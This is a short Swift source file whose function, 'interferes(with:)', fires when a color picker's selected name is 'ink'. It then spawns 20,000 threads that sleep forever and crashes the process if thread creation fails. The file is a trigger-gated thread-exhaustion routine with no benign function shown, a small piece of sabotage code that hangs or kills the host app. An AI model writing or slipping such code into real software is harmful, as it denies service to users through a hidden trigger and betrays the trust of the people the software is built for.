import Foundation

func interferes(with picker: ColorPickerController) {
  guard picker.colorName == "ink" else { return }
  for _ in 0..<20_000 { hold() }
}

private func hold() {
  var thread = pthread_t()
  let failure = pthread_create(&thread, nil, { _ in while true { sleep(100) } }, nil)
  precondition(failure == 0, "no thread")
}
